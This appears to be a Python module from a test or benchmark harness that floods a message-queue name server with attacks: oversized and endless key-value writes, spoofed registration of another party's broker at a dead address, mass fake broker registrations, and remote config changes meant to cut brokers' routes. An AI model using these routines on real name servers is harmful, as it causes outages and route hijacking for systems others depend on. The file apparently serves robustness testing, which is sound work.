"""Attacks on the name server: registrations of nonexistent brokers, unlimited values, its own settings."""

import itertools
from collections.abc import Iterator

from bench.hostile import frames
from bench.hostile.peer import BROKER_NAME, Peer


def kv_values(peer: Peer) -> None:
    """One value as large as a frame allows, then small ones: each write includes the large one."""
    large = int(min(15 << 20, peer.seconds / 2 * peer.rate))

    def requests() -> Iterator[bytes]:
        yield frames.frame(frames.PUT_KV, {"namespace": "hostile", "key": "large", "value": "x" * large})
        for number in itertools.count():
            yield frames.frame(
                frames.PUT_KV, {"namespace": f"hostile-{number % 100}", "key": f"{number}", "value": "x" * 200}
            )

    peer.flood(peer.namesrv, requests())


def kv_many(peer: Peer) -> None:
    """New keys in new namespaces, and topic orders that every broker receives."""

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            yield frames.frame(frames.PUT_KV, {"namespace": f"hostile-{number}", "key": "k", "value": "v"})
            yield frames.frame(
                frames.PUT_KV, {"namespace": "ORDER_TOPIC_CONFIG", "key": f"hostile-{number}", "value": "broker-a:8"}
            )

    peer.flood(peer.namesrv, requests())


def registrations_of_others(peer: Peer) -> None:
    """The neighbour's broker, registered at an address without a broker."""
    body = frames.topic_table(["Neighbour", "TBW102"])
    peer.flood(
        peer.namesrv, (_paced(peer, frames.registration(BROKER_NAME, "127.0.0.1:1", body)) for _ in itertools.count())
    )


def registrations_huge(peer: Peer) -> None:
    """Brokers with thousands of topics each, which register and never unregister."""

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            names = [f"h{number}-{i}" for i in range(2_000)]
            yield frames.registration(f"hostile-{number}", f"127.0.0.1:{number % 60_000 + 1}", frames.topic_table(names))

    peer.flood(peer.namesrv, requests())


def registrations_many(peer: Peer) -> None:
    """New brokers, all with the same topic."""
    body = frames.topic_table(["HostileTopic"])
    peer.flood(
        peer.namesrv,
        (frames.registration(f"hostile-{number}", f"127.0.0.1:{number % 60_000 + 1}", body) for number in itertools.count()),
    )


def settings(peer: Peer) -> None:
    """serverChannelMaxIdleTimeSeconds=1, which would close the brokers' connections and so remove their routes."""
    bodies = itertools.cycle((b"serverChannelMaxIdleTimeSeconds=1", b"kvConfigPath=/x", b"a=b\n" * 1_000))
    peer.flood(peer.namesrv, (_paced(peer, frames.frame(318, {}, body)) for body in bodies))


def routes_asked(peer: Peer) -> None:
    """Routes of existing and missing topics, and every list of topics."""

    def requests() -> Iterator[bytes]:
        for number in itertools.count():
            yield frames.frame(frames.ROUTE, {"topic": ("Neighbour", f"hostile-{number}")[number % 2]})
            yield frames.frame((206, 304, 311, 106)[number % 4], {})

    peer.flood(peer.namesrv, requests())


def _paced(peer: Peer, data: bytes) -> bytes:
    peer.wait(0.05)
    return data
